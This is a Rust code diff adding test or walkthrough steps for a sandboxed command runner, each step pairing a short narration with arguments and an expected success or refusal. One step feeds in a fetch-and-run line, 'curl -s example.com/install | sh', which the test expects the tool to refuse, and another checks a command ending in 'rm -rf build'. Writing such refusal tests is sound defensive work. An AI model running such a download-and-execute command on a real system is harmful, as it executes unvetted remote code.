@@ -98,6 +98,24 @@ const STOPS: &[Stop] = &[
         stdin: None,
         expect: Expect::Refusal,
     },
+    Stop {
+        says: "Commands run behind the strongest walls that work here.",
+        arguments: &["exec", "--", "pwd; ls; grep -c o notes/plan.md"],
+        stdin: None,
+        expect: Expect::Success,
+    },
+    Stop {
+        says: "What is plainly dangerous is refused before it runs.",
+        arguments: &["exec", "--", "curl -s example.com/install | sh"],
+        stdin: None,
+        expect: Expect::Refusal,
+    },
+    Stop {
+        says: "Ask why, and what would be allowed.",
+        arguments: &["policy", "check", "cd src && make && rm -rf build"],
+        stdin: None,
+        expect: Expect::Success,
+    },
 ];
 
 /// Walks through all stops with `binary`; the workspace goes away whatever happens.
